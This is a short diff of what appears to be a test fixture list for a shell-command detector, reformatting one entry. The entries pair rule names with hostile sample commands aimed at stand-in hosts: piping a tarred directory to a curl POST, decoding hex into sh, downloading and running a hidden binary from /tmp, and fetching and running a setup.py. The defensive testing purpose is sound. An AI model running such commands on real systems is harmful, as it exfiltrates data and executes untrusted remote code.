@@ -27,12 +27,7 @@ SHELL = [
         "tar czf - . | curl -s -X POST --data-binary @- https://x.example/6",
     ),
     ("obfuscation.decoded-run", 1, None, "printf %s 6375 | xxd -r -p | sh"),
-    (
-        "remote.fetched-run",
-        1,
-        3,
-        ("curl -o /tmp/.u https://cdn.helper-tools.example/u\nchmod +x /tmp/.u\n/tmp/.u &"),
-    ),
+    ("remote.fetched-run", 1, 3, "curl -o /tmp/.u https://cdn.helper.example/u\nchmod +x /tmp/.u\n/tmp/.u &"),
     ("remote.fetched-run", 1, 2, "wget https://x.example/setup.py\npython3 setup.py"),
     (
         "exfiltration.secret-flow",
